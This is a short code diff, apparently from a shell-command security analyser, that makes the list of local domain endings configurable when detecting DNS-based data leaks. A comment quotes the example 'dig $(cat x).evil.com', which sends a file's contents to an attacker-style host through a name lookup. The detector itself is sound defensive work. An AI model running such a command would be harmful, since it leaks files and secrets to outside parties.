@@ -269,12 +269,12 @@ const readScript = ({ context, given, session }: Call, { script, usual }: Prepar
   if (deeds.unread) session.addNamed("evalCode", "code")
 }
 
-const nearby = /\.(?:local|localhost|internal|lan|home|localdomain|test|cluster\.local)\.?$/i
-
 /** `dig $(cat x).evil.com`: who answers for the name reads what was asked. */
 const readAskedNames = ({ session, words }: Call): void => {
   for (const { flow, value } of words) {
-    if (!/\$\(\)[\w-]*\.\w/.test(value) || nearby.test(value)) continue
+    const host = value.toLowerCase().replace(/\.$/, "")
+    const isNearby = session.commands.nearby.some((ending) => host.endsWith(ending))
+    if (!/\$\(\)[\w-]*\.\w/.test(value) || isNearby) continue
     session.addNamed(flow.secret ? "secretSent" : "dataSent", "name.ask")
   }
 }
